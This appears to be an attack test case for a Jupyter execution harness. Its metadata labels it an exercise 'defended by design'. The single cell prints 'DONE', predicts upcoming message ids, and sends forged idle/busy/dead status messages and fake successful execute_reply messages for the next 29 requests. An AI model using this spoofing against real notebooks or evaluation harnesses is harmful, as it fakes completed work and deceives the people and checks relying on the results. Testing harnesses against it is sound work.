# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# costs = true
# ///

# %% name="question"
from IPython import get_ipython

# The next requests' numbers follow from this one's.
print("DONE", flush=True)
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
head, _, number = parent["header"]["msg_id"].rpartition("_")
for ahead in range(1, 30):
    later = dict(parent["header"], msg_id=f"{head}_{int(number) + ahead}")
    for kind in ("idle", "busy", "dead"):
        content = {"execution_state": kind}
        kernel.session.send("iopub", "status", content, parent={"header": later})
    reply = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    kernel.session.send("shell", "execute_reply", reply, parent={"header": later})
